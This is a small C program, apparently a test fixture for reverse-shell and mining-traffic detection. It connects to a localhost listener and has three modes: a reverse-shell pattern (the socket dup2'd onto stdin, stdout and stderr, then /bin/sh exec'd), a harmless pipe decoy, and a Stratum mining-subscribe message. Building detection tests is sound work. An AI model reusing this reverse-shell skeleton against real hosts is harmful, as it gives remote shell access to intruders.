// The reverse-shell shape, against a listener on 127.0.0.1:PORT:
//   revshell PORT shell   connect, dup2 the socket onto 0/1/2, exec /bin/sh
//   revshell PORT pipe    connect, dup2 a pipe onto 1, exec /bin/sh (innocent order)
//   revshell PORT send    connect and send a line, no shell
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[1])) };
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { perror("connect"); return 3; }
    char *sh[] = { "sh", "-c", "echo shell-ran", NULL };
    if (strcmp(argv[2], "shell") == 0) {
        dup2(s, 0); dup2(s, 1); dup2(s, 2);
        execv("/bin/sh", sh);
    } else if (strcmp(argv[2], "pipe") == 0) {
        int p[2];
        pipe(p);
        int out = dup(1);
        dup2(p[1], 1);
        dup2(out, 1);
        execv("/bin/sh", sh);
    } else {
        const char *line = "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"fake/1.0\"]}\n";
        send(s, line, strlen(line), 0);
        puts("sent");
    }
    return 0;
}
